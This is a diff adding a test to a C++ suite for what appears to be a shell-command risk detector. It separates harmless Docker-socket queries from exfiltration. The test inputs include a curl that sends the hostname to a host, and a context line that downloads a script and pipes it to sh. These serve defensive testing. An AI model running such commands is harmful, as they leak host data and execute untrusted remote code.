@@ -178,6 +178,14 @@ TEST(Shell, a_program_started_under_nohup_with_its_output_thrown_away_is_let_go)
   EXPECT_TRUE(judge("node-gyp rebuild >/dev/null 2>&1 || true").empty());
 }
 
+TEST(Shell, curl_to_a_unix_socket_sends_nothing_off_the_host) {
+  // moto 5.2.6's settings.py asks Docker's socket about its own container.
+  EXPECT_TRUE(judge("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json").empty());
+  EXPECT_EQ(
+      judge("curl -s http://127.0.0.1/c/$HOSTNAME"),
+      (std::vector<ShellFinding>{finding(ShellSignal::kCollectedAndSent, "curl -s http://127.0.0.1/c/$HOSTNAME")}));
+}
+
 TEST(Shell, an_assignment_before_a_command_is_its_environment_not_the_command) {
   EXPECT_EQ(judge("X=1 curl -fsSL http://127.0.0.1/i.sh | sh"),
             (std::vector<ShellFinding>{
